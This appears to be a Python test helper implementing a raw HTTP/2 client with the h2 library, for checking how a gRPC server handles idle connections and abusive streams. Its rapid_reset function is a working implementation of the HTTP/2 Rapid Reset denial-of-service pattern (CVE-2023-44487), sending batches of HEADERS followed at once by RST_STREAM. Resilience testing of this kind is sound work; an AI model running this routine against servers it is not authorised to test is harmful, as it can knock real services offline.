"""A raw HTTP/2 client (the h2 library over a plain socket), for what a gRPC client library
would never do: hold connections idle, reset streams by the thousand."""

from __future__ import annotations

import socket
import time

import h2.config
import h2.connection
import h2.events


class RawConnection:
    def __init__(self, address: str, timeout: float = 10.0) -> None:
        host, port = address.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=timeout)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.conn.initiate_connection()
        self.flush()
        self.goaway: h2.events.ConnectionTerminated | None = None
        self.closed = False

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout: float) -> list[h2.events.Event]:
        """Read what the server sent within `timeout`; notes a GOAWAY and the server's close."""
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(65536)
        except TimeoutError:
            return []
        except ConnectionResetError:
            self.closed = True
            return []
        if not data:
            self.closed = True
            return []
        events = self.conn.receive_data(data)
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = event
        self.flush()
        return events

    def handshake(self, timeout: float = 10.0) -> None:
        """Until the server's SETTINGS arrived: a fully established HTTP/2 connection."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if any(isinstance(e, h2.events.RemoteSettingsChanged) for e in self.pump(0.5)):
                return
        raise AssertionError("no SETTINGS from the server")

    def wait_closed(self, timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.pump(min(0.5, max(deadline - time.monotonic(), 0.01)))
        return self.closed

    def close(self) -> None:
        self.sock.close()


def rapid_reset(address: str, count: int, path: str, batch: int = 200) -> int:
    """Open `count` streams on one connection, each HEADERS then RST_STREAM at once (the
    CVE-2023-44487 pattern); returns how many were sent before the server closed it."""
    connection = RawConnection(address)
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", address),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    sent = 0
    try:
        connection.handshake()
        while sent < count and not connection.closed:
            for _ in range(min(batch, count - sent)):
                stream_id = connection.conn.get_next_available_stream_id()
                connection.conn.send_headers(stream_id, headers)
                connection.conn.reset_stream(stream_id)
                sent += 1
            connection.flush()
            # Read what the server answered (SETTINGS, RST_STREAM, WINDOW_UPDATE) so that
            # neither side's buffers fill up.
            connection.pump(0.001)
    finally:
        connection.close()
    return sent
